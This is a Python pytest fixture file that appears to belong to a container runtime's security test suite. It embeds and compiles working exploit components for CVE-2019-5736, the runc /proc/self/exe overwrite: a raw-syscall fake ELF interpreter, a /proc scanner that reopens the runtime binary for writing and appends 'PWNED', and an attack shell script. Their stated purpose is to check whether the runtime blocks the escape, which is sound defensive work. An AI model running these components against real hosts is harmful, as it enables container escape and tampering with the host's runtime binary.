"""Attacker programs for the security suite, compiled once per session with the host's gcc.

Each is a real exploit building block, not a mock: they run inside containers as a malicious image
would ship them. They are x86_64-only where they use raw syscalls (the fake ELF interpreter)."""

import os
import platform
import shutil
import subprocess

import pytest

# An ELF interpreter a malicious image ships as /lib64/ld-linux-x86-64.so.2. When the container
# re-executes a dynamically linked runtime binary through /proc/self/exe (CVE-2019-5736), the kernel
# loads this from the container's rootfs as that binary's interpreter, so it runs with
# /proc/self/exe = the runtime's binary. It keeps an O_PATH fd of it as fd 9 and execs the image's
# /attack.sh, which later reopens /proc/self/fd/9 for writing. No libc: it runs before any loader.
FAKE_LD = r"""
#define SYS_open 2
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60
#define O_PATH 010000000
static long sc3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void) {
    long fd = sc3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (fd >= 0) sc3(SYS_dup2, fd, 9, 0);
    char *argv[] = {"/bin/sh", "/attack.sh", 0};
    char *envp[] = {"PATH=/bin:/sbin", 0};
    sc3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sc3(SYS_exit, 99, 0, 0);
    for (;;) {}
}
"""

# A process with CAP_SYS_PTRACE inside the container that watches /proc for any process whose
# exe is the runtime's binary (dev:ino given on the command line), keeps an O_PATH fd of it, and
# keeps trying to open that fd for writing until the runtime has exited. Reports to argv[3].
SCANNER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int argc, char **argv) {
    if (argc < 5) return 2;
    unsigned long dev = strtoul(argv[1], 0, 10), ino = strtoul(argv[2], 0, 10);
    double deadline = now() + atof(argv[4]);
    int held = -1; char err[128] = "never saw a process running the runtime binary";
    while (now() < deadline) {
        if (held < 0) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
                char p[64]; snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
                int fd = open(p, O_PATH);
                if (fd < 0) continue;
                struct stat st;
                if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) { held = fd; break; }
                close(fd);
            }
            if (d) closedir(d);
            if (held >= 0) snprintf(err, sizeof err, "held an fd of the runtime binary");
        } else {
            /* Let the runtime's children go on (they wait on the image's FIFO /etc/passwd). */
            int u = open("/etc/passwd", O_WRONLY | O_NONBLOCK);
            if (u >= 0) close(u);
            char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", held);
            int w = open(p, O_WRONLY | O_APPEND);
            if (w >= 0) {
                write(w, "PWNED", 5);
                FILE *f = fopen(argv[3], "w"); fprintf(f, "pwned\n"); fclose(f);
                return 0;
            }
            snprintf(err, sizeof err, "held an fd; open for write: %s", strerror(errno));
            usleep(50000);
        }
    }
    FILE *f = fopen(argv[3], "w"); fprintf(f, "blocked: %s\n", err); fclose(f);
    return 1;
}
"""

# The script the fake interpreter execs: keep trying to append to the runtime binary through the
# inherited fd 9 for a while (the runtime holds it busy until it exits), then report.
ATTACK_SH = """#!/bin/sh
i=0
while [ $i -lt 100 ]; do
    if (echo PWNED >> /proc/self/fd/9) 2>/out/err; then echo pwned > /out/result; exit 0; fi
    i=$((i+1)); sleep 0.1
done
echo "blocked: $(cat /out/err 2>/dev/null)" > /out/result
"""


def _compile(src, out, *flags):
    c = out + ".c"
    with open(c, "w") as f:
        f.write(src)
    subprocess.run(["gcc", "-O1", "-o", out, c] + list(flags), check=True, capture_output=True)
    return out


@pytest.fixture(scope="session")
def attackers(tmp_path_factory):
    if platform.machine() != "x86_64":
        pytest.skip("the attacker programs use x86_64 syscalls; this machine is %s" % platform.machine())
    if not shutil.which("gcc"):
        pytest.fail("gcc is needed to build the attacker programs (make deps installs it)")
    d = str(tmp_path_factory.mktemp("attackers"))
    return {
        "fake_ld": _compile(FAKE_LD, os.path.join(d, "fake-ld"),
                            "-static", "-nostdlib", "-fno-stack-protector", "-fno-pie", "-no-pie"),
        "scanner": _compile(SCANNER, os.path.join(d, "scanner"), "-static"),
    }
